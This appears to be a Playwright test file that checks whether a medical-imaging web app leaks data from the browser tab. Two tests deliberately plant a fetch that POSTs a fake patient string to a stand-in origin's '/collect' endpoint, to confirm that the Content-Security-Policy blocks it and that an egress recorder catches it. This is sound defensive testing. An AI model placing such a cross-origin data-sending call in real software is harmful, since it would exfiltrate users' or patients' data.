import { expect, test } from '@playwright/test';
import { STEPS } from '../../src/ui/steps';
import { createProject, goToStep, openApp } from './support/app';
import { findEgressViolations, recordRequests } from './support/egress';
import { startOtherOrigin, type OtherOrigin } from './support/other-origin';

let other: OtherOrigin;
test.beforeAll(async () => {
  other = await startOtherOrigin();
});
test.afterAll(async () => {
  await other.close();
});

test.describe('no data leave the tab', () => {
  test('a scripted session sends nothing to another origin and no request body at all', async ({ page, context, baseURL }) => {
    const requests = recordRequests(context);
    await openApp(page);
    await createProject(page, 'Egress audit');
    await goToStep(page, 'import');
    await page.getByTestId('load-sample').click();
    await expect(page.getByTestId('sample-summary')).toBeVisible({ timeout: 60_000 });
    for (const step of STEPS) await goToStep(page, step.id);
    await expect(page.getByTestId('engine-backend')).toHaveText('webgpu', { timeout: 120_000 });

    const appOrigin = new URL(baseURL ?? page.url()).origin;
    // The session really ran: the page, its worker and the sample studies were all fetched.
    expect(requests.some((r) => r.url.includes('compute') && r.url.endsWith('.js'))).toBe(true);
    expect(requests.filter((r) => r.url.endsWith('.dcm')).length).toBeGreaterThan(10);
    expect(findEgressViolations(requests, appOrigin)).toEqual([]);
    expect(other.hits).toEqual([]);
  });

  test('the Content-Security-Policy refuses a planted cross-origin request before it leaves', async ({ page }) => {
    await openApp(page);
    const before = other.hits.length;
    const outcome = await page.evaluate(async (target) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective));
      try {
        await fetch(`${target}/collect`, { method: 'POST', body: 'FAKE^PATIENT' });
        return { fetched: true, violations };
      } catch {
        await new Promise((resolve) => setTimeout(resolve, 100));
        return { fetched: false, violations };
      }
    }, other.origin);
    expect(outcome.fetched).toBe(false);
    expect(outcome.violations).toContain('connect-src');
    expect(other.hits.length).toBe(before);
  });

  test('the egress recorder catches a planted cross-origin request with a body', async ({ browser, baseURL }) => {
    // Without the CSP, a planted request really leaves; the recorder must see it, or the
    // session test above would pass for the wrong reason.
    const context = await browser.newContext({ bypassCSP: true, baseURL });
    const page = await context.newPage();
    const requests = recordRequests(context);
    await openApp(page);
    const before = other.hits.length;
    await page.evaluate(async (target) => {
      await fetch(`${target}/collect`, { method: 'POST', body: 'FAKE^PATIENT' });
    }, other.origin);
    expect(other.hits.length).toBe(before + 1);

    const violations = findEgressViolations(requests, new URL(page.url()).origin);
    expect(violations.map((v) => v.why).sort()).toEqual(['has-body', 'other-origin']);
    expect(violations[0]?.request.url).toBe(`${other.origin}/collect`);
    await context.close();
  });
});
